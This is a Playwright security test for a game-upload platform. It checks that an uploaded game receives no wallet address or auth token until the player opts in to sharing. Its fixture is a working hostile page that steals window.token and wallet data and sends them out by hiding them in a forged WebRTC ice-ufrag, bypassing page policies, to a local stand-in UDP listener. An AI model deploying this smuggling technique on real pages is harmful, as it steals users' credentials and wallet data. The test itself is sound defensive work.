import { createSocket } from 'node:dgram'
import { networkInterfaces } from 'node:os'
import { expect } from '@playwright/test'
import { enterByWallet } from '@/tests/support/browser/account-visitor'
import { words } from '@/tests/support/browser/demo-player'
import { publishUpload } from '@/tests/support/browser/publish-upload'
import { sampleVariants } from '@/tests/support/browser/sample'
import { test } from '@/tests/support/browser/test'

/** What a game knew about its player, as it arrived outside. */
type Loot = { readonly address: string | null; readonly coinbase: string | null; readonly token: string | null }

const lootPattern = /LOOT([\dA-Za-z+/]+)\/\/END/

/** A stranger's machine: a UDP port that collects what games put into the connectivity checks of WebRTC. */
async function openStranger() {
  const arrived: Loot[] = []
  const socket = createSocket('udp4')
  socket.on('message', (packet) => {
    const [, text = ''] = lootPattern.exec(packet.toString('latin1')) ?? []
    if (text !== '') arrived.push(JSON.parse(Buffer.from(text, 'base64').toString()) as Loot)
  })
  await new Promise<void>((resolve) => socket.bind(0, '0.0.0.0', resolve))
  const own = Object.values(networkInterfaces()).flatMap((each) => each ?? [])
  const host = own.find(({ internal, family }) => !internal && family === 'IPv4')?.address ?? '127.0.0.1'
  return { arrived, host, port: socket.address().port, close: () => socket.close() }
}

/**
 * A game that sends what it knows to a stranger. The name of the other end of a WebRTC connection (`ice-ufrag`) is free text that the
 * browser repeats in each connectivity check, so no policy of the page sees it.
 */
const smuggler = (
  host: string,
  port: number,
) => `<!doctype html><title>Smuggler</title><p id="sent">0</p><script type="module">
  import { connectHost } from '/sdk/intrepid-sdk.js'
  const game = await connectHost()
  game.ready()
  let sent = 0
  const answer = (name) => ['v=0', 'o=- 1 1 IN IP4 0.0.0.0', 's=-', 't=0 0', 'a=group:BUNDLE 0',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0', 'a=mid:0', 'a=ice-ufrag:' + name,
    'a=ice-pwd:' + 'p'.repeat(24), 'a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'), 'a=setup:passive',
    'a=sctp-port:5000', 'a=candidate:1 1 udp 2130706431 ${host} ${port} typ host', ''].join('\\r\\n')
  async function send() {
    const loot = { address: window.user?.walletAddress ?? null, coinbase: window.web3State.coinbase, token: window.token?.slice(0, 40) ?? null }
    const connection = new RTCPeerConnection()
    connection.createDataChannel('loot')
    await connection.setLocalDescription()
    const text = btoa(JSON.stringify(loot)).replaceAll('=', '')
    await connection.setRemoteDescription({ type: 'answer', sdp: answer('LOOT' + text + '//END') })
    document.getElementById('sent').textContent = String(++sent)
  }
  game.on('run', send)
  game.on('player', send)
</script>`

for (const locale of sampleVariants(['en', 'ar'] as const, 1)) {
  test(`an uploaded game knows neither address nor token until its player shares them (${locale})`, async ({
    page,
    baseURL,
  }) => {
    const { gameHost, uploadedGame } = words[locale]
    const stranger = await openStranger()
    const origin = new URL(baseURL ?? '').origin
    const slug = `smuggler-${Date.now().toString(36)}`
    const address = await enterByWallet(page.request, origin)
    const document = smuggler(stranger.host, stranger.port)
    await publishUpload(page.request, origin, { slug, title: 'Smuggler', document })

    await page.goto(`/${locale}/play/${slug}`)
    const share = page.getByRole('checkbox', { name: uploadedGame.share.label })
    await expect(share).not.toBeChecked()
    await expect(share).toHaveAccessibleDescription(uploadedGame.share.meaning)
    await expect.poll(() => page.evaluate(() => typeof Reflect.get(window, 'token'))).toBe('string')
    await page.getByRole('button', { name: gameHost.play, exact: true }).click()
    await expect.poll(() => stranger.arrived.length).toBeGreaterThan(0)
    expect(stranger.arrived).toEqual(stranger.arrived.map(() => ({ address: null, coinbase: null, token: null })))

    await share.check()
    // The page of this test has no wallet: the account has signed in with one elsewhere.
    const shared = { address, coinbase: null, token: expect.stringMatching(/^ey/) as unknown }
    await expect.poll(() => stranger.arrived).toContainEqual(shared)
    await share.uncheck()
    const game = page.frameLocator('main iframe').locator('html')
    await expect.poll(() => game.evaluate(() => Reflect.get(window, 'token') as unknown)).toBeNull()
    stranger.close()
  })
}
